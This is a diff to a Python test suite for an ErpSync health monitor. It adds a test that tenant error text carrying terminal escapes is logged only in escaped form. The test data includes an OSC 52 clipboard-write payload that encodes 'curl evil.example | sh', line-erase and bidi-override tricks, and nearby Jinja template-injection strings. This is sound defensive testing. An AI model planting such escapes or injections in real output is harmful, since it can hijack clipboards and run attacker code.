@@ -217,6 +217,24 @@ def test_secrets_are_never_in_events_or_logs(harness, caplog, monkeypatch):
     assert events[0]['engine']['status_message'] == 'Authorization: Basic ********; password=********'
 
 
+def test_tenant_text_in_log_lines_and_error_messages_carries_no_terminal_escape(harness, caplog):
+    """Review F13: an error the tenant words with terminal escapes (OSC 52 clipboard write, a line erase, a bidi override)
+    is logged and sent as poll_failed's error with the escapes visible; a connection name stays data, verbatim."""
+    osc52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'
+    harness.poll(connections=[connection(1, 'Pilot' + osc52, active=True)], summaries=[(1, NEVER)])
+    harness.webapi.expect('GetEngineStatus', {}, status=400, answer={'Message': 'Bad\x1b[2K\r' + osc52 + ' \u202eexe.txt'})
+
+    with caplog.at_level(logging.DEBUG, logger='superoffice.crm.erpsync_health'):
+        events = harness.run(2)
+
+    assert kinds(events) == [('connection_stale', 1), ('poll_failed', None)]
+    assert events[0]['connection']['name'] == 'Pilot' + osc52
+    assert events[1]['error'] == ('ErpSync GetEngineStatus failed: HTTP 400: Bad\\x1b[2K\\x0d\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07 '
+                                  '\\u202eexe.txt')
+    assert [r for r in caplog.records if '\x1b' in r.getMessage() or '\u202e' in r.getMessage()] == []
+    assert 'Bad\\x1b[2K' in caplog.text
+
+
 @pytest.mark.parametrize('name', [
     "{{ lookup('ansible.builtin.pipe', 'id') }}",
     "Fortnox {% raw %}{{ 6 * 7 }}{% endraw %} {# x #}",
